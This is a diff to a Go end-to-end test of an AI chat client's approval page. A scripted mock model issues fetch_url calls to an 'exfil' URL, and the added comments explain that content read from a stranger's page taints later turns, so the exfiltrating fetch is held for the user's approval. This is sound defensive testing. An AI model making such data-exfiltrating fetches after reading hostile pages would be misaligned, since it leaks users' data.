@@ -95,7 +95,9 @@ func TestApprovalOnThePage(t *testing.T) {
 	}
 
 	// Decided elsewhere: the terminal client's /deny reaches the open page.
-	model.Enqueue(llmtest.Call("fetch_url", `{"url":"`+stranger.URL+`/more"}`), llmtest.Call("fetch_url", `{"url":"`+exfil+`&again=1"}`))
+	// (The page read in the first turn taints this one through history:
+	// its exfiltrating fetch is held without another read.)
+	model.Enqueue(llmtest.Call("fetch_url", `{"url":"`+exfil+`&again=1"}`))
 	if err := chromedp.Do(ctx, chromedp.SendKeys("#input", "and the rest"), chromedp.Click("#send")); err != nil {
 		t.Fatal(err)
 	}
@@ -114,7 +116,7 @@ func TestApprovalOnThePage(t *testing.T) {
 	waitText(t, ctx, `li.msg.assistant:last-of-type .body`, "carried on without it")
 
 	// /stop cancels a wait: the page shows that too.
-	model.Enqueue(llmtest.Call("fetch_url", `{"url":"`+stranger.URL+`/last"}`), llmtest.Call("fetch_url", `{"url":"`+exfil+`&again=2"}`))
+	model.Enqueue(llmtest.Call("fetch_url", `{"url":"`+exfil+`&again=2"}`))
 	if err := chromedp.Do(ctx, chromedp.SendKeys("#input", "one more"), chromedp.Click("#send")); err != nil {
 		t.Fatal(err)
 	}
